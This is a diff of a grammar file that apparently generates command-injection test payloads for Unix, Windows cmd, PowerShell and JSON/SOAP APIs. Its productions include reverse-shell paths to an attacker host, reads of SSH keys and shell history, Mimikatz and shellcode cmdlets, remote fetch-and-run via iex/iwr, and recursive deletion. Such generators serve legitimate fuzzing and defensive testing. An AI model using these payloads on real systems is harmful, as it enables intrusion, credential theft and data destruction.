@@ -91,18 +91,36 @@ winvar := %COMSPEC% /c «win_info» ¦ cmd /v:on /c "set x=«=who&& call %x%ami~
   ¦ powershell -enc «ps_code|u16b64» ¦ %PROGRAMFILES:~10,1%«win_info» ¦ for /f %i in ('whoami') do nslookup %i.«zone»
   ¦ p^o^w^e^r^s^h^e^l^l -c «ps_code» ¦ cmd /c "«win_info|caret»" ¦ w"h"o"am"i
   ¦ for /l %i in (1,1,«tens») do ping -n 2 127.0.0.1 ¦ forfiles /p c:\windows\system32 /m notepad.exe /c calc.exe
-fragment := *3 «unix_bin» «unix_file» ¦ *2 «bin_dir»«unix_bin» ¦ ;«unix_bin» ¦ |«unix_bin» ¦ &«unix_bin» ¦ `«unix_bin»`
-  ¦ $(«unix_bin») ¦ «unix_bin» -«letter» ¦ «unix_bin» --help ¦ /dev/tcp/«ip»/«port» ¦ /dev/udp/«attacker»/«port»
-  ¦ ${IFS} ¦ $IFS$9«unix_bin» ¦ =() { ¦ <«unix_file» ¦ >«web_root»/«rand» ¦ «unix_file»
-  ¦ ~/.ssh/«=id_rsa~id_ed25519~authorized_keys» ¦ .«=bash_history~bashrc~netrc~pgpass~viminfo~zshrc» ¦ cmd.exe ¦ cmd /c
-  ¦ powershell.exe ¦ «ps_cmdlet» ¦ «ps_cmdlet» «word» ¦ %COMSPEC% ¦ $HOME ¦ $PATH ¦ «unix_bin|quotes»
-  ¦ «unix_bin|glob» «unix_file|glob» ¦ «win_bin» ¦ «win_bin» /c ¦ !-1 ¦ «unix_bin» -c «unix_bin» ¦ «unix_bin»|«unix_bin»
-  ¦ «unix_bin»;«unix_bin» ¦ «unix_bin» && «unix_bin» ¦ for «ab» in «word»;do «unix_bin»;done ¦ «unix_bin» $(«unix_bin»)
-  ¦ <<<«word» ¦ {«unix_bin»,«word»}
+fragment := *3 «unix_bin» «unix_file» ¦ *2 «win_word» ¦ «win_word» «win_arg» ¦ & «win_word» «win_arg» ¦ |«win_word»
+  ¦ «ps_alias» «word» ¦ ;«ps_alias» «url» ¦ $env:«=PATH~USERNAME~TEMP~COMPUTERNAME»
+  ¦ %«=USERNAME~PATH~OS~TEMP~APPDATA~SYSTEMROOT~WINDIR~PROGRAMFILES»% ¦ ${«coined|upper»}
+  ¦ $«=USER~SHELL~PWD~OLDPWD~HOSTNAME~RANDOM~UID~PPID~IFS~BASH_ENV~PS1» ¦ ~/ ¦ ~root ¦ !! ¦ [[ -e «unix_file» ]]
+  ¦ («unix_bin») ¦ {«unix_bin»;} ¦ $((«int»+«int»)) ¦ *2 «unix_bin» «unix_arg» ¦ *2 «bin_dir»«unix_bin» ¦ ;«unix_bin»
+  ¦ |«unix_bin» ¦ &«unix_bin» ¦ `«unix_bin»` ¦ $(«unix_bin») ¦ «unix_bin» -«letter» ¦ «unix_bin» --help
+  ¦ /dev/tcp/«ip»/«port» ¦ /dev/udp/«attacker»/«port» ¦ ${IFS} ¦ $IFS$9«unix_bin» ¦ =() { ¦ <«unix_file»
+  ¦ >«web_root»/«rand» ¦ «unix_file» ¦ ~/.ssh/«=id_rsa~id_ed25519~authorized_keys»
+  ¦ .«=bash_history~bashrc~netrc~pgpass~viminfo~zshrc» ¦ cmd.exe ¦ cmd /c ¦ powershell.exe ¦ «ps_cmdlet»
+  ¦ «ps_cmdlet» «word» ¦ %COMSPEC% ¦ $HOME ¦ $PATH ¦ «unix_bin|quotes» ¦ «unix_bin|glob» «unix_file|glob» ¦ «win_bin»
+  ¦ «win_bin» /c ¦ !-1 ¦ «unix_bin» -c «unix_bin» ¦ «unix_bin»|«unix_bin» ¦ «unix_bin»;«unix_bin»
+  ¦ «unix_bin» && «unix_bin» ¦ for «ab» in «word»;do «unix_bin»;done ¦ «unix_bin» $(«unix_bin») ¦ <<<«word»
+  ¦ {«unix_bin»,«word»}
   ¦ «=sudo~time~nice~nohup~env~exec~xargs~stdbuf~strace~watch~timeout 5~eval~command~builtin~setsid» «unix_bin»
   ¦ «unix_bin» -e «bin_dir»sh ¦ rev<<<'«unix_info|rev»' ¦ $'\«oct»'«unix_bin» ¦ «unix_bin»${IFS}«unix_file»
   ¦ /bin/«unix_bin|quotes» ¦ /?in/«unix_bin|glob» ¦ ping -c «small» «ip» ¦ «unix_bin»<<EOF ¦ «unix_bin» /etc/«etc_file»
   ¦ Invoke-«=Expression~Command~WebRequest~Mimikatz~Shellcode~ReflectivePEInjection» ¦ -enc «b40» ¦ «unix_bin» 2>&1
+win_word := assoc ¦ attrib ¦ cacls ¦ call ¦ cd ¦ chdir ¦ chkdsk ¦ cmdkey ¦ copy ¦ del ¦ dir ¦ echo ¦ erase ¦ expand ¦ fc
+  ¦ find ¦ findstr ¦ for ¦ format ¦ fsutil ¦ ftype ¦ getmac ¦ gpresult ¦ hostname ¦ if ¦ ipconfig ¦ label ¦ md ¦ mkdir
+  ¦ mklink ¦ mode ¦ more ¦ mountvol ¦ move ¦ msg ¦ nbtstat ¦ net ¦ netstat ¦ nslookup ¦ path ¦ pathping ¦ ping ¦ popd
+  ¦ powercfg ¦ print ¦ prompt ¦ pushd ¦ rd ¦ recover ¦ reg ¦ rem ¦ ren ¦ replace ¦ rmdir ¦ robocopy ¦ route ¦ runas ¦ sc
+  ¦ schtasks ¦ set ¦ setx ¦ shutdown ¦ sort ¦ start ¦ subst ¦ systeminfo ¦ takeown ¦ taskkill ¦ tasklist ¦ time ¦ title
+  ¦ tracert ¦ tree ¦ tskill ¦ type ¦ ver ¦ verify ¦ vol ¦ wevtutil ¦ where ¦ whoami ¦ wmic ¦ xcopy
+win_arg := C:\ ¦ /? ¦ /all ¦ /s ¦ /c «win_word» ¦ C:\«win_path» ¦ %TEMP%\«rand».txt ¦ «word».txt ¦ \\«attacker»\«ab»
+  ¦ /q /f *.* ¦ user ¦ «priv» ¦ .\«word»
+ps_alias := iex ¦ iwr ¦ irm ¦ gci ¦ gc ¦ gps ¦ gwmi ¦ gsv ¦ sal ¦ saps ¦ spps ¦ ni ¦ ri ¦ sc ¦ sleep ¦ ls ¦ cat ¦ icm
+  ¦ nsn ¦ etsn ¦ rvpa ¦ epcsv ¦ fl ¦ ft ¦ ogv ¦ sls ¦ curl
+unix_arg := -la ¦ -r ¦ -e /bin/sh ¦ -n «int» ¦ --version ¦ -c «small» «ip» ¦ /tmp/«rand» ¦ ../«word» ¦ .
+  ¦ -i «unix_file» ¦ *.«=php~txt~conf~log» ¦ «url» ¦ -O - «url» ¦ 777 «rand» ¦ -rf /tmp/«rand» ¦ -9 «int»
+  ¦ «word» «word» ¦ -p «port»
 ps_cmdlet := Get-Process ¦ Get-Content ¦ Get-ChildItem ¦ Get-Service ¦ Get-WmiObject ¦ Get-Item ¦ Get-Help ¦ Get-Command
   ¦ Get-Credential ¦ Invoke-Expression ¦ Invoke-Command ¦ Invoke-WebRequest ¦ Start-Process ¦ Start-Sleep ¦ Stop-Process
   ¦ New-Object ¦ Set-ExecutionPolicy ¦ Set-Content ¦ Copy-Item ¦ Remove-Item ¦ ConvertTo-SecureString ¦ Out-File
@@ -118,10 +136,9 @@ tail_path := /«word»/;«cmd|ifs» ¦ /«word»/`«cmd|ifs»` ¦ /cgi-bin/;«cm
 device := {"method":"«word»","params":{"«name»":"«attack|js»"}}
   ¦ {"«name»":"«word»","«=cmd~command~action~operation»":"«unix_cmd|js»"}
   ¦ {"«=host~ip~addr~target~server~url~ping_address»":"«attack|js»","count":«small»}
-  ¦ {"topicurl":"«word»","«=host_time~ip~command~FileName~opmode~desc~enable»":"«left»;«cmd|js»"}
   ¦ {"jsonrpc":"2.0","method":"«word».«word»","params":["«word»","«attack|js»"],"id":«small»}
   ¦ {"«name»":{"«name»":"`«cmd|js»`"}} ¦ {"id":«small»,"args":["-c","«unix_cmd|js»"],"exec":"/bin/«=sh~bash»"}
-  ¦ {"command":"run","utilCmdArgs":"-c '«unix_cmd|js»'"} ¦ {"task":{"script":"«unix_cmd|js»"},"name":"«rand»"}
+  ¦ @2021 {"command":"run","utilCmdArgs":"-c '«unix_cmd|js»'"} ¦ {"task":{"script":"«unix_cmd|js»"},"name":"«rand»"}
   ¦ {"AttachStdout":true,"Cmd":["/bin/sh","-c","«unix_cmd|js»"],"Image":"«word»"}
 soap := <?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><u:«$a:coined|cap» xmlns:u="urn:«word»"><New«$b:word|cap»>`«cmd|html»`</New«$b|cap»></u:«$a|cap»></soap:Body></soap:Envelope>
   ¦ <?xml version="1.0"?><request><«$t:word»>«left»;«cmd|html»</«$t»></request>
